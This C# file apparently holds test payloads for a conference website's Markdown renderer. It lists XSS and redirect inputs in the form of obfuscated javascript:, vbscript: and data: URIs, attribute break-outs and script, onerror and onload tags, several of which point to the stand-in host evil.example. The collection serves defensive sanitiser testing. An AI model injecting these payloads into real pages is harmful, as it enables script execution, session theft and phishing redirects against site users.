namespace TheSocialConference.Markup;

/// <summary>Texts of our own that try to become code, to break out of an attribute, or to lead somewhere else.</summary>
internal static class Payloads
{
    /// <summary>In the place of an address.</summary>
    public static readonly string[] Addresses =
    [
        "javascript:alert(1)", "JAVASCRIPT:alert(1)", "JaVaScRiPt:alert(1)", "javascript://example.org/%0aalert(1)",
        "javascript:alert(1)//https://example.org", "javascript:/*https://example.org*/alert(1)", "javascript&colon;alert(1)",
        "&#106;avascript:alert(1)", "&#x6a;avascript:alert(1)", "&#0000106avascript:alert(1)", "&#x6A&#x61&#x76&#x61script:alert(1)",
        "java&Tab;script:alert(1)", "java&NewLine;script:alert(1)", "java&#9;script:alert(1)", "java&#10;script:alert(1)", "java&#13;script:alert(1)",
        "&#1;javascript:alert(1)", "&#14;javascript:alert(1)", "&nbsp;javascript:alert(1)", "&#x2028;javascript:alert(1)", "&#xFEFF;javascript:alert(1)",
        "\\javascript:alert(1)", "javascript\\:alert(1)", "java\\script:alert(1)", "javascript%3Aalert(1)", "%6Aavascript:alert(1)", "ｊavascript:alert(1)",
        "x:javascript:alert(1)", "feed:javascript:alert(1)", "view-source:javascript:alert(1)", "livescript:x", "mocha:x",
        "vbscript:msgbox(1)", "VBScript:msgbox(1)", "vb&#115;cript:msgbox(1)",
        "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "DATA:text/html,x",
        "data:image/svg+xml,<svg/onload=alert(1)>", "data:,x", "&#100;ata:text/html,x", "blob:https://example.org/x", "filesystem:https://example.org/x",
        "file:///etc/passwd", "intent://x#Intent;scheme=javascript;end", "ms-msdt:/id", "jar:https://example.org!/x", "about:blank", "chrome://settings",
        "//evil.example", "\\\\\\\\evil.example", "/\\\\evil.example", "/&#9;/evil.example", "https:evil.example", "https:/evil.example", "http:///evil.example",
        "https://example.org@evil.example", "https://example.org:x@evil.example/", "https://example.org\\\\@evil.example", "https://example.org&commat;evil.example",
        "\"onmouseover=\"alert(1)", "&quot;onmouseover=&quot;alert(1)", "'onmouseover='alert(1)", "https://example.org/\"onmouseover=\"alert(1)",
        "https://example.org/&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;", "https://example.org/`onmouseover=alert(1)", "#\"onclick=\"alert(1)",
        "session:KEYNT1\"onclick=\"alert(1)", "session:javascript:alert(1)", "speaker:\"><svg/onload=alert(1)>", "session:&#34;&#62;",
        "mailto:\"onclick=alert(1)", "mailto:x@example.org&#10;bcc:y@example.org",
    ];

    /// <summary>Where an address can stand.</summary>
    public static readonly string[] Places =
    [
        "[a]({0})", "[a](<{0}>)", "[a]({0} \"t\")", "<{0}>", "[a][b]\n\n[b]: {0}", "[a][b]\n\n[b]: <{0}> 'x'", "![a]({0})", "![a](<{0}> \"t\")", "![a][b]\n\n[b]: {0}",
        "## [a]({0})", "## a {{{0}}}", "*a*{{lang={0}}}", "[a](/x){{lang={0}}}", "[^1]\n\n[^1]: [a]({0})", "a|b\n-|-\n[a]({0})|<{0}>", "> - [a]({0})", "{0}",
    ];

    /// <summary>By themselves.</summary>
    public static readonly string[] Texts =
    [
        "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<a href=javascript:alert(1)>a</a>", "<details open ontoggle=alert(1)>", "<body onload=alert(1)>",
        "<style>*{background:url(//evil.example)}</style>", "<p style=position:fixed>a</p>", "<form action=//evil.example><input></form>", "<base href=//evil.example>",
        "<meta http-equiv=refresh content=0;url=//evil.example>", "<link rel=stylesheet href=//evil.example>", "<object data=x>", "<embed src=x>", "<math><mi xlink:href=javascript:alert(1)>",
        "<!--><img src=x onerror=alert(1)>-->", "<![CDATA[><img src=x onerror=alert(1)>]]>", "<?x ><img src=x onerror=alert(1)>", "<!x ><img src=x onerror=alert(1)>",
        "<<script>script>alert(1)<</script>/script>", "<scr<script>ipt>alert(1)</script>", "<img src=\"`\"><img src=x onerror=alert(1)>",
        "# a {onclick=alert(1)}", "## a {#x onclick=alert(1)}", "## a {KEYNT1 onclick=alert(1)}", "## a\n{onclick=alert(1)}", "a {onclick=alert(1)}", "*a*{onclick=alert(1)}",
        "**a**{lang=en onclick=alert(1)}", "*a*{lang=\"en\" onclick=\"alert(1)\"}", "*a*{lang=en\"onclick=\"alert(1)}", "[a](/x){onclick=alert(1)}", "[a](/x){lang=en}{onclick=alert(1)}",
        "- a {onclick=alert(1)}", "```x\" onclick=\"alert(1)\na\n```", "```{onclick=alert(1)}\na\n```", "~~~ <script>\na\n~~~", "::: \"onclick=alert(1)\na\n:::",
        "![a](foto.jpg \"x\\\" onerror=\\\"alert(1)\")", "![a\" onerror=\"alert(1)](foto.jpg)", "![<script>alert(1)</script>](foto.jpg)", "![&quot; onerror=alert(1) x=&quot;](foto.jpg)",
        "![a](foto.jpg){onerror=alert(1)}", "[a](/x \"t\\\" onclick=\\\"alert(1)\")", "[a](/x 't&quot; onclick=&quot;alert(1)')", "[a](/x (t\" onclick=\"alert(1)))", "[a\" onclick=\"alert(1)](/x)",
        "[^\"onclick=alert(1)]\n\n[^\"onclick=alert(1)]: a", "[^<script>]\n\n[^<script>]: <script>alert(1)</script>", "| <script>alert(1)</script> | a |\n|---|---|\n| <img src=x onerror=alert(1)> | b |",
        "## <script>alert(1)</script>", "## \" onclick=\"alert(1)", "## a\" onclick=alert(1) {KEYNT1}\n\n<script>alert(1)</script>", "`<script>alert(1)</script>`", "    <script>alert(1)</script>",
        "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "\\<script>alert(1)\\</script>", "1<script>2", "<\u0000script>alert(1)</script>",
        "![a](https://www.youtube.com/watch?v=x)", "https://www.youtube.com/watch?v=x", "@@x@@ ==x== $$x$$ :smile: [x]{.y} *[HTML]: x",
        "href=\"~/evil", "[href=\"~/](/x)", "`href=\"~/evil`",
    ];
}
